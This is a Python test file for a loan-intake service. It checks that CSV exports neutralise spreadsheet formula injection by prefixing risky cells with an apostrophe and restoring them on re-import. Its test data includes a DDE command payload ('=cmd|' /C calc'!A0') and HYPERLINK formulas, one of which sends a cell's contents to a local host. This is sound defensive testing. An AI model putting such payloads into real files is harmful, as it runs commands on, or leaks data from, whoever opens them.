"""Rows set aside, handed out: no spreadsheet runs what stood in a cell, and the file can be mended and fed again."""

import csv
import hashlib
import io
from pathlib import Path

import msgspec
import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from casework.intake.feed.borrowers import cell_of_contact
from casework.intake.feed.feed_sheet import SetAside
from casework.intake.feed.folder import set_aside_csv
from casework.intake.feed.headers import SAFE_COLUMN
from casework.intake.feed.safe_form import in_safe_form
from casework.intake.feed.sheet import read_rows
from casework.intake.feed.tables import contacts
from casework.spreadsheet import defused, fused
from casework.storage.database import reading
from tests.feed.bank import DAY, Bank, arrears, contact, loan, write
from tests.feed.shell import casework

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\uff1d1+1", "\uff0b1",
    "\uff0d1", "\uff201", '=HYPERLINK("http://127.0.0.1","x")', "=cmd|' /C calc'!A0", "-5.00", "'=1+1", "''", "'",
]  # fmt: skip
PLAIN = ["", "L1", "5.00", "甄不存", "a=1", "1-2", "x@y", "it's", " ", "2024-01-01"]
ACTIVE = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
HEADER = ["loan_id", "备注"]
cells = st.sampled_from(FORMULAS + PLAIN) | st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=12)


def handed_out(*rows: tuple[str, ...], header: list[str] = HEADER) -> str:
    return in_safe_form(set_aside_csv("overdue", header, [SetAside(2, "", "wrong_cell_count", row) for row in rows]))


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_could_run_gets_an_apostrophe_and_loses_it_when_it_is_read(cell: str) -> None:
    assert (defused(cell), fused(defused(cell))) == (f"'{cell}", cell)


@pytest.mark.parametrize("cell", PLAIN)
def test_any_other_cell_is_handed_out_as_it_came(cell: str) -> None:
    assert (defused(cell), fused(cell)) == (cell, cell)


@given(st.lists(st.tuples(cells, cells), min_size=1, max_size=5), cells)
def test_no_cell_of_the_safe_form_begins_a_formula_and_every_cell_is_read_as_it_was(
    rows: list[tuple[str, str]], name: str
) -> None:
    text = handed_out(*rows, header=["loan_id", name])
    shown = parsed(text)
    assert shown[0][-1] == SAFE_COLUMN
    assert not [cell for row in shown for cell in row if cell.lstrip(" \u3000").startswith(ACTIVE)]
    _, *again = [found[:2] for _, found in read_rows(text.encode("utf-8-sig"), "overdue.csv")]
    assert again == [[*row] for row in rows]


def test_a_file_without_the_column_that_says_so_keeps_its_apostrophes(tmp_path: Path) -> None:
    """The twin: what a bank writes is never taken for what this service wrote."""
    (tmp_path / "x.csv").write_text("loan_id,备注\r\n'L1,'=1\r\n")
    assert [found for _, found in read_rows((tmp_path / "x.csv").read_bytes(), "x.csv")][1] == ["'L1", "'=1"]


def test_formulas_of_a_feed_are_handed_out_defused_mended_and_fed_again(bank: Bank) -> None:
    attack = '=HYPERLINK("http://127.0.0.1/?"&A2,"x")'
    people = [contact(number) for number in range(2, 41)]
    books = [loan(number) for number in range(1, 41)]
    bad = contact(1, person_name=attack, phone="-1", address="", source="'@x")
    run = bank.send(DAY, [arrears(2)], loans=books, contacts=[bad, *people])
    files: dict[str, list[str]] = {"safe.csv": [], "raw.csv": ["--raw"]}
    for name, more in files.items():
        target = bank.folder / name
        words: list[str | Path] = ["feed", "set-aside", str(run.id), "--kind", "contacts", "-o", target, *more]
        assert casework(bank.started.settings, *words).code == 0
    safe, raw = (dict(zip(*parsed((bank.folder / name).read_text("utf-8-sig")), strict=True)) for name in files)
    personal = ("person_name", "phone", "source")
    assert [safe[name] for name in personal] == [f"'{attack}", "'-1", "''@x"]
    assert [raw[name] for name in personal] == [attack, "-1", "'@x"]
    assert SAFE_COLUMN not in raw

    mended = (bank.folder / "safe.csv").read_bytes().replace(b"'-1,", b"12000000001,")
    folder = write(bank.folder / "again", DAY, overdue=[arrears(2)], contacts=[bad])
    put(folder, "contacts", mended)
    assert bank.take(folder, correction=True).figures["set_aside_rows"] == 0
    with reading(bank.started.engine) as conn:
        row = conn.execute(sa.select(contacts).where(contacts.c.borrower_id == "B1")).one()
    vault = bank.started.branch.vault
    assert (vault.open(cell_of_contact(row, "name"), row.name_sealed), row.source) == (attack, "'@x")


def put(folder: Path, kind: str, content: bytes) -> None:
    """Another content for the file of a kind, with its digest."""
    manifest = msgspec.json.decode((folder / "manifest.json").read_bytes())
    (entry,) = [file for file in manifest["files"] if file["kind"] == kind]
    entry["sha256"] = hashlib.sha256(content).hexdigest()
    (folder / entry["name"]).write_bytes(content)
    (folder / "manifest.json").write_bytes(msgspec.json.encode(manifest))
